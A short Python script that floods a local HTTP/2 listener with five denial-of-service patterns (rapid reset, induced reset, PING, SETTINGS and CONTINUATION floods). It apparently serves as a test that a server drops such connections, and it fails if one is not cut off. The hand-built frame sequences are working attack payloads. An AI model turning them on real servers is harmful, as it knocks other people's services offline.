"""``python siege.py PORT WAY``: attack an HTTP/2 listener, over and over, until killed. Stands alone.

Says ``begun``, and then ``cut off`` for each connection that the attack has cost.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# GET http / with :authority sink, without the dynamic table.
BLOCK = b"\x82\x86\x84\x01\x04sink"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def rapid_reset(stream: int) -> bytes:
    return frame(1, 5, stream, BLOCK) + frame(3, 0, stream, b"\0\0\0\x08")


def made_reset(stream: int) -> bytes:
    return frame(1, 5, stream, BLOCK) + frame(8, 0, stream, b"\0\0\0\0")


def pings(stream: int) -> bytes:
    return frame(6, 0, 0, b"attacked") * 10


def settings(stream: int) -> bytes:
    return frame(4, 0, 0, b"\0\x04\0\0\0\x01\0\x04\0\0\0\x02") * 4


def continuations(stream: int) -> bytes:
    return frame(1, 0, 1, b"") if stream == 1 else frame(9, 0, 1, b"\x00" * 100)


def strike(port: int, piece: object) -> bool:
    """Attack until cut off; whether that happened."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.settimeout(20)
        flood = b"".join(piece(stream) for stream in range(1, 8001, 2))  # type: ignore[operator]
        try:
            sock.sendall(PREFACE + frame(4, 0, 0) + flood)
            while sock.recv(65536):
                pass
        except TimeoutError:
            return False
        except OSError:
            pass
    return True


WAYS = {way.__name__: way for way in (rapid_reset, made_reset, pings, settings, continuations)}


def main() -> None:
    port, way = int(sys.argv[1]), sys.argv[2]
    print("begun", flush=True)
    while strike(port, WAYS[way]):
        print("cut off", flush=True)
        time.sleep(0.05)
    sys.exit(f"{way} was not cut off")


if __name__ == "__main__":
    main()
